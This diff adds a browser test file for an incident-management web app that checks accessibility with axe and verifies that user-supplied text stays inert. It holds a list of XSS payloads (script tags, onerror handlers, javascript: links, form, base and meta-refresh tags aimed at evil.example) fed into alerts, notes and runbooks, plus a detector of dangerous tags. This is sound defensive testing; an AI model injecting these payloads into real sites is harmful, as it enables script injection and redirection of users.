@@ -1,0 +1,116 @@
+/* Every page: axe in both themes at three widths, and what outsiders write stays text. */
+import AxeSource from "axe-core";
+import { browser, check, demo, open, run, Server, sleep } from "./lib.mjs";
+import { SHOP } from "./shop.mjs";
+
+const chrome = await browser();
+
+const EVIL = [
+	"<script>window.xss=1</script>", "<img src=x onerror=window.xss=1>", "<svg onload=window.xss=1>", "\"><script>window.xss=1</script>",
+	"' onmouseover='window.xss=1", "javascript:window.xss=1", "<iframe srcdoc='<script>parent.xss=1</script>'>", "<a href=javascript:window.xss=1>x</a>",
+	"[x](javascript:window.xss=1)", "[x](data:text/html,<script>window.xss=1</script>)", "![x](x\" onerror=\"window.xss=1)", "<style>*{display:none}</style>",
+	"`<b>x</b>`", "**<img src=x onerror=window.xss=1>**", "<details open ontoggle=window.xss=1>", "<math><mtext><img src onerror=window.xss=1>", "&lt;script&gt;window.xss=1&lt;/script&gt;",
+	"<form action=//evil.example><input name=token>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<javascript:window.xss=1>", "[x](\tjavascript:window.xss=1)", "[x](JaVaScRiPt:window.xss=1)", "\u202Eevil\u202C",
+];
+const RUNBOOK = `---
+runbook: evil
+service: checkout
+answers: [{alertname: Evil}]
+---
+# ${EVIL[0]}
+
+${EVIL.join("\n\n")}
+
+> ${EVIL[1]}
+
+- ${EVIL[2]}
+- [${EVIL[1]}](https://example.com/"onmouseover="window.xss=1)
+
+| ${EVIL[0]} | x |
+|---|---|
+| ${EVIL[1]} | [x](javascript:window.xss=1) |
+
+\`\`\`html ${EVIL[0].replace(/[`]/g, "")}
+${EVIL.join("\n")}
+\`\`\`
+
+\`\`\`check evil
+run: [/bin/echo, "<img src=x onerror=window.xss=1>"]
+expect: "exit == 3"
+otherwise: stop
+\`\`\`
+`;
+
+/* Nothing but what we make: no foreign element, no handler, no address of another kind. */
+function foreign() {
+	const out = [];
+	for (const e of document.querySelectorAll("#app *")) {
+		if (/^(script|img|iframe|object|embed|base|meta|link|style|video|audio|math|foreignobject)$/i.test(e.tagName)) out.push(e.outerHTML);
+		for (const a of e.attributes) if (/^on|^srcdoc$|^formaction$/i.test(a.name)) out.push(`${e.tagName} ${a.name}`);
+		const href = e.getAttribute("href");
+		if (href !== null && !/^(\/|#|https?:|mailto:)/.test(href)) out.push(`href ${href}`);
+		if (href && /^https?:|^mailto:/.test(href) && !/noopener/.test(e.rel)) out.push(`rel ${href}`);
+	}
+	if (window.xss) out.push("a script ran");
+	return out;
+}
+
+await run({
+	"what outsiders write is text everywhere": async () => {
+		const server = await Server.start({ ...SHOP, "runbooks/evil.md": RUNBOOK });
+		const context = await chrome.newContext();
+		try {
+			await server.fire(EVIL.map((evil, i) => ({ labels: { alertname: i % 3 ? "Evil" : evil, service: "checkout", severity: "critical", instance: evil }, annotations: { summary: evil, description: evil, runbook: evil },
+				generatorURL: i % 2 ? "javascript:window.xss=1" : "https://example.com/\"onclick=window.xss=1" })));
+			const { items } = await server.get("/v1/incidents");
+			const evil = items.find((i) => i.title.startsWith("Evil"));
+			for (const text of EVIL) await server.post(`/v1/incidents/${evil.id}/notes`, { text });
+			await server.as(server.token_for("ana", "operator", "person:ana")).post(`/v1/services/checkout/hands-on`, { for: "10m", why: EVIL[1] });
+			await server.post("/v1/stop-all", { text: EVIL[0] });
+			const page = await open(context, server.page("/"));
+			await page.locator(".card, .row").first().waitFor();
+			for (const where of ["/", "/incidents", `/incidents/${evil.id}?trail=all`, `/incidents/${items[0].id}`, "/alerts", "/runbooks", "/runbooks/evil", "/services/checkout", "/ourselves", `/authority?service=${encodeURIComponent(EVIL[1])}`, `/incidents?q=${encodeURIComponent(EVIL[0])}`, `/services/${encodeURIComponent(EVIL[2])}`]) {
+				await page.goto(server.url + where);
+				await page.locator("main h1, main .failed").first().waitFor({ state: "attached" });
+				await sleep(400);
+				const found = await page.evaluate(foreign);
+				check(found.length === 0, `${where}: ${found.join("\n")}`);
+			}
+			check(page.wrong.length === 0, page.wrong.join("\n"));
+		} finally {
+			await context.close();
+			await server.stop();
+		}
+	},
+
+	"axe finds nothing on any page, in both themes, at three widths": async () => {
+		const live = await demo();
+		const found = [];
+		try {
+			const handoff = (await live.get("/v1/handoffs")).items[0];
+			const pages = ["/incidents/3", "/incidents/4?trail=all", "/alerts", "/handoffs", `/handoffs/${handoff.id}`, "/services", "/services/shop", "/runbooks", "/runbooks/shop-runbook",
+				"/authority?service=shop&ask=who-can&action=restart-shop", "/authority?ask=may&service=ledger&action=empty-spool&principal=automation", "/schedules", "/channels", "/ourselves", "/incidents/999"];
+			for (const colorScheme of ["light", "dark"]) {
+				const context = await chrome.newContext({ colorScheme, bypassCSP: true, viewport: { width: 1280, height: 800 } });
+				const page = await open(context, live.page("/"));
+				await page.locator(".card").first().waitFor();
+				for (const where of pages) {
+					await page.goto(live.url + where);
+					await page.locator("main h1, main h2").first().waitFor({ state: "attached" }).catch(() => found.push(`${where} ${colorScheme}: has no heading`));
+					await sleep(250);
+					await page.evaluate(AxeSource.source);
+					for (const width of [1280, 800, 360]) {
+						await page.setViewportSize({ width, height: 800 });
+						const { violations } = await page.evaluate(() => window.axe.run());
+						for (const v of violations) found.push(`${where} ${colorScheme} ${width}: ${v.id}: ${v.nodes.map((n) => n.html).join(" | ").slice(0, 300)}`);
+						if (await page.evaluate(() => document.documentElement.scrollWidth > innerWidth)) found.push(`${where} at ${width} scrolls sideways`);
+					}
+				}
+				await context.close();
+			}
+		} finally {
+			await live.stop();
+		}
+		check(found.length === 0, found.join("\n"));
+	},
+}, () => chrome.close());
